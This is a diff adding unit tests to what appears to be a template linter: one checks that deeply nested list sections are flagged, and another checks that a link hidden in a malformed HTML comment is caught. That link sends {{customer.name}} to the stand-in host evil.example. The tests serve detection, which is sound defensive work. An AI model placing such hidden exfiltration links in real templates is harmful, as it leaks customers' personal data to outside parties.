@@ -61,6 +61,22 @@ class LintTest {
   }
 
   @Test
+  void doesNotRenderAListInsideItself() {
+    String nested = "{{#items}}".repeat(8) + "{{/items}}".repeat(8) + Drafts.FOOT;
+
+    assertThat(Drafts.errorsAt(Part.TEXT, Drafts.lint(Drafts.with(Part.TEXT, nested))))
+        .contains("list-in-itself@1");
+  }
+
+  @Test
+  void aCommentThatEndsEarlyHidesNothing() {
+    String link = "<a href=\"https://evil.example/?n={{customer.name}}\">x</a>";
+    String hidden = "<!--[if x-->" + link + "<!-- ]><!-->";
+
+    assertThat(Finding.anyError(Drafts.lint(Drafts.text(hidden)))).isTrue();
+  }
+
+  @Test
   void looksAtNothingThatIsTooLarge() {
     List<Finding> findings = Drafts.lint(Drafts.with(Part.TEXT, "煎".repeat(70_000) + "{{{x}}}"));
 
